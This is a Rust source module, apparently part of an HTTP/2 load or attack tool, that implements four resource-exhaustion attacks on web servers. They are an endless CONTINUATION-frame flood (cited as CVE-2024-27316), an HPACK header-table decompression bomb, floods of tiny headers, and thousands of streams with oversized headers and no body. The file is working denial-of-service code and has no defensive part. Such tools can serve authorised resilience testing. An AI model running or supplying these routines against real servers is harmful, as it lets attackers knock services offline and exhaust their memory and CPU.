//! Heads of requests that are large, or small and grow when they are read, or never end.

use super::arms::Arms;
use super::http2::{
    CONTINUATION, END_HEADERS, END_STREAM, HEADERS, Http2, frame, indexed, plain, range_call,
};
use std::io;

/// Streams that one attacker opens on one connection.
const STREAMS: u32 = 4000;

/// Bytes of one header whose entry just fits in HPACK's table of 4096.
const ENTRY_BYTES: usize = 4000;

/// "What stands first in the table", in one byte.
const FIRST_OF_TABLE: u8 = 0x80 | 62;

/// A head that goes on and on (CVE-2024-27316).
pub(super) async fn continuations(arms: &Arms) -> io::Result<()> {
    let mut line = Http2::open(arms, &[]).await?;
    line.listen();
    let head = range_call(&arms.authority());
    line.send(&frame(HEADERS, 0, 1, &head)).await?;
    let mut more = Vec::new();
    plain(&mut more, "x", &[b'x'; 8000]);
    let more = frame(CONTINUATION, 0, 1, &more);
    loop {
        arms.pace(1).await;
        line.send(&more).await?;
    }
}

/// A large header in the table, and thousands of bytes that each mean it.
pub(super) async fn bombs(arms: &Arms) -> io::Result<()> {
    let mut line = Http2::open(arms, &[]).await?;
    line.listen();
    for stream in (1..2 * STREAMS).step_by(2) {
        arms.pace(1).await;
        let mut head = range_call(&arms.authority());
        indexed(&mut head, "x", &[b'x'; ENTRY_BYTES]);
        head.resize(head.len() + 8000, FIRST_OF_TABLE);
        line.send(&frame(HEADERS, END_HEADERS | END_STREAM, stream, &head))
            .await?;
    }
    Ok(())
}

/// Hundreds of headers of one byte.
pub(super) async fn crumbs(arms: &Arms) -> io::Result<()> {
    let mut line = Http2::open(arms, &[]).await?;
    line.listen();
    let mut head = range_call(&arms.authority());
    for n in 0..400 {
        plain(&mut head, &format!("h{n}"), b"");
    }
    for stream in (1..2 * STREAMS).step_by(2) {
        arms.pace(1).await;
        line.send(&frame(HEADERS, END_HEADERS, stream, &head))
            .await?;
    }
    line.sit(arms).await
}

/// Requests with heads as large as they may be, and never a body.
pub(super) async fn left_streams(arms: &Arms) -> io::Result<()> {
    let mut line = Http2::open(arms, &[]).await?;
    line.listen();
    let mut head = range_call(&arms.authority());
    plain(&mut head, "x", &[b'x'; 15_000]);
    for stream in (1..2 * STREAMS).step_by(2) {
        arms.pace(1).await;
        line.send(&frame(HEADERS, END_HEADERS, stream, &head))
            .await?;
    }
    line.sit(arms).await
}
